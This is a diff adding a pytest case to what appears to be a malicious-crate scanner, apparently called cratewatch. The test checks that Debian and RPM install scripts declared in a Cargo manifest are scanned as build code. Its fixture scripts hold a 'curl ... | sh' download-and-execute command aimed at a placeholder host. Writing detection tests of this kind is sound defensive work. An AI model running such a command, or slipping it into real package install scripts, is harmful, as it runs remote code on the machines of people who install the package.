@@ -9,8 +9,11 @@ from pathlib import Path
 
 import pytest
 
+from cratewatch.model.scan import Verdict
 from cratewatch.scan.analyze import Context
-from cratewatch.scan.crate import CrateScan, scan_path
+from cratewatch.scan.crate import CrateScan, scan_crate, scan_path
+from cratewatch.scan.extract import CrateArchive
+from cratewatch.scan.manifest import read_manifest
 from tests.cli.test_audit_cli import assert_one_line_error, run
 
 # Modelled on the 2023 cluster (postgress, serd, ...): the build script sends the host's
@@ -274,3 +277,38 @@ def test_a_flow_in_test_code_counts_for_the_verdict(tmp_path: Path) -> None:
     result = scan_path(crate, None)
     assert result.verdict == "malicious"
     assert any(e.rule == "threat-dataflow-exfiltration" for e in result.findings)
+
+
+def test_install_scripts_of_a_package_built_from_the_crate_are_build_code() -> None:
+    manifest = (
+        b'[package]\nname = "fand"\nversion = "0.1.0"\n'
+        b'[package.metadata.deb]\nmaintainer-scripts = "debian/"\n'
+        b'[package.metadata.deb.variants.lite]\nmaintainer-scripts = "lite/"\n'
+        b'[package.metadata.generate-rpm]\npost_install_script = "rpm/post.sh"\n'
+        b'pre_uninstall_script = "echo inline text is not a file"\n'
+    )
+    fetch = b"#!/bin/sh\ncurl -fsSL https://updates.example/a.sh | sh\n"
+    files = {
+        "Cargo.toml": manifest,
+        "src/main.rs": b"fn main() {}\n",
+        "debian/postinst": fetch,
+        "lite/prerm": fetch,
+        "rpm/post.sh": fetch,
+        "scripts/unused.sh": fetch,
+    }
+    assert read_manifest(files).installer_scripts == (
+        "debian/postinst",
+        "lite/prerm",
+        "rpm/post.sh",
+    )
+    scan = scan_crate(CrateArchive("fand", files, ()), "fand")
+    contexts = {
+        e.file: e.context for e in scan.findings if e.rule == "threat-download-execute-command"
+    }
+    assert contexts == {
+        "debian/postinst": Context.BUILD,
+        "lite/prerm": Context.BUILD,
+        "rpm/post.sh": Context.BUILD,
+        "scripts/unused.sh": Context.TEST,  # nothing runs it: tooling
+    }
+    assert scan.verdict is Verdict.MALICIOUS
